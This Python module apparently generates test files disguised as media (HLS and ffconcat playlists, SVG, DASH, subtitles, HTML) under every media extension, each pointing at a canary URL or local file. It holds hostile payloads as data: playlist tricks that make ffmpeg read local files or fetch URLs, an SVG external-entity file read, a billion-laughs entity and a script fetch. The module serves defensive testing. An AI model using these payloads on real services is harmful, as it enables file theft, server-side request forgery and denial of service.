"""Texts that pretend to be media, under every ending that media has. Each names a canary server, or a file."""

from collections.abc import Iterator

ENDINGS = "mp4 mov mkv webm avi ts mp3 wav m4a ogg flac jpg png gif webp heic".split()

HLS_MASTER = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile:{file}\n"
HLS_MEDIA = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\n{url}\n#EXTINF:10,\n{file}\n#EXT-X-ENDLIST\n"
HLS_KEY = '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:10,\ncrypto:{file}\n#EXT-X-ENDLIST\n'
HLS_CONCAT = "#EXTM3U\n#EXTINF:1,\nconcat:{url}|{file}\n#EXT-X-ENDLIST\n"
FFCONCAT = "ffconcat version 1.0\nfile '{file}'\n"
FFCONCAT_NEAR = "ffconcat version 1.0\nfile neighbour.mp4\n"
FFCONCAT_NET = "ffconcat version 1.0\nfile '{url}'\noption safe 0\n"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/><image href="file:{file}"/></svg>'
SVG_ENTITY = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:{file}">]><svg><text>&x;</text></svg>'
SVG_LAUGHS = '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><svg><text>&b;</text></svg>'
DASH = '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>{url}</BaseURL></Period></MPD>'
SMIL = '<?xml version="1.0"?>\n<smil><body><video src="{url}"/></body></smil>'
PLS = "[playlist]\nFile1={url}\nNumberOfEntries=1\n"
ASX = '<asx version="3.0"><entry><ref href="{url}"/></entry></asx>'
SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
SRT = "1\n00:00:00,000 --> 00:00:09,000\n<font size=9999>{file}</font>\n"
ASS = "[Script Info]\nScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,,,0,0,0,,{{\\fs9999}}x\n"
VTT = "WEBVTT\n\n00:00.000 --> 00:09.000\n{url}\n"
HTML = "<!DOCTYPE html><html><body><script>fetch('{url}')</script></body></html>"
FFMETA = ";FFMETADATA1\ntitle={url}\n"
CUE = 'FILE "{file}" WAVE\n  TRACK 01 AUDIO\n'
VOBSUB = "# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n{file}\n"
SHELL = "#!/bin/sh\ncat {file}\n"
LIST = "{url}\n{file}\n"

KINDS = {
    "hls master": HLS_MASTER, "hls media": HLS_MEDIA, "hls key": HLS_KEY, "hls concat": HLS_CONCAT,
    "ffconcat": FFCONCAT, "ffconcat near": FFCONCAT_NEAR, "ffconcat net": FFCONCAT_NET, "svg": SVG,
    "svg entity": SVG_ENTITY, "svg laughs": SVG_LAUGHS, "dash": DASH, "smil": SMIL, "pls": PLS, "asx": ASX, "sdp": SDP,
    "srt": SRT, "ass": ASS, "vtt": VTT, "html": HTML, "ffmetadata": FFMETA, "cue": CUE, "vobsub": VOBSUB,
    "shell": SHELL, "list": LIST,
}  # fmt: skip
BEFORE = {"": b"", " after a mark": b"\xef\xbb\xbf", " after spaces": b"\n \t\n", " after zeros": b"\0" * 8}


def texts(url: str, file: str) -> Iterator[tuple[str, bytes]]:
    """(name, bytes): every kind under one ending after another, and the dangerous ones under every ending."""
    for number, (kind, text) in enumerate(KINDS.items()):
        data = text.format(url=url, file=file).encode()
        endings = ENDINGS if kind.startswith(("hls", "ffconcat")) else [ENDINGS[number % len(ENDINGS)]]
        for ending in endings:
            yield f"{kind}.{ending}", data
        for how, before in BEFORE.items():
            if how:
                yield f"{kind}{how}.mp4", before + data
